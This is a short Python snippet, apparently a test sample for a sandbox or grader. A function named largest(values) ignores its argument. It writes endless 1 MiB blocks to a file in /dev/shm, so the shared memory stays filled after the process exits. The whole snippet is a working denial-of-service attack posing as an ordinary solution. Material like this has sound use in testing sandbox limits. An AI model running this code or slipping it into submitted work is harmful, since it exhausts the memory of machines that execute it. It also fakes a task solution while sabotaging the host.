# Resources: shared memory that outlives the process.
def largest(values):
    with open("/dev/shm/momus-attack", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
